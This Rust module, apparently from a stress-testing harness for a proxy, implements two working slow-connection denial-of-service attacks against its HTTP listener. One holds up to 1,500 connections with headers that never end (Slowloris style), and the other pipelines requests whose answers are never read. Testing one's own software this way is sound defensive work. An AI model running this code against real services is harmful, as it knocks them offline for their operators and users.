//! Abuse of the proxy's HTTP.

use std::{
    collections::VecDeque,
    io::{ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    thread,
    time::{Duration, Instant},
};

use super::{Failure, Limits, Pace, Tally};
use crate::target::Target;

/// Connections held at the same time: more than a process with 1,024 descriptors can have.
const CONNECTIONS_MAX: usize = 1_500;
/// Connection attempts a second, limited by the descriptors that this process may have.
const ATTEMPTS_PER_S: f64 = 1_000.0;

fn http(target: &Target) -> Result<SocketAddr, Failure> {
    target.http.ok_or_else(|| "no address of a proxy".into())
}

/// Heads that grow by a byte a second and never end.
pub(super) fn half_requests(target: &Target, limits: &Limits) -> Result<Tally, Failure> {
    hold(
        target,
        limits,
        b"GET /half HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
        b"a",
    )
}

/// Whole requests in a row, whose answers stay in the socket.
pub(super) fn slow_readers(target: &Target, limits: &Limits) -> Result<Tally, Failure> {
    let request = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
    hold(target, limits, request, request)
}

fn hold(target: &Target, limits: &Limits, first: &[u8], more: &[u8]) -> Result<Tally, Failure> {
    let address = http(target)?;
    let mut tally = Tally::default();
    let mut held: VecDeque<TcpStream> = VecDeque::new();
    let mut pace = Pace::new(limits.end, ATTEMPTS_PER_S);
    let mut grows = Instant::now();
    while Instant::now() < limits.end {
        for _ in 0..pace.ready() {
            if held.len() >= CONNECTIONS_MAX {
                break;
            }
            tally.attempts += 1;
            // The victim may refuse a connection, or close it at once.
            let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_millis(200))
            else {
                continue;
            };
            stream.set_nonblocking(true)?;
            tally.connected += 1;
            if let Ok(length) = stream.write(first) {
                tally.bytes_sent += length as u64;
                held.push_back(stream);
            }
        }
        if grows.elapsed() >= Duration::from_secs(1) {
            grows = Instant::now();
            let before = held.len();
            held.retain_mut(|stream| lives(stream) && write(stream, more, &mut tally));
            tally.closed += (before - held.len()) as u64;
        }
        thread::sleep(Duration::from_millis(5));
    }
    Ok(tally)
}

/// True if the victim has not closed the connection. Reads one byte at most, so that the answer stays in the socket.
fn lives(stream: &mut TcpStream) -> bool {
    match stream.read(&mut [0]) {
        Ok(length) => length > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

fn write(stream: &mut TcpStream, bytes: &[u8], tally: &mut Tally) -> bool {
    match stream.write(bytes) {
        Ok(length) => {
            tally.bytes_sent += length as u64;
            true
        }
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}
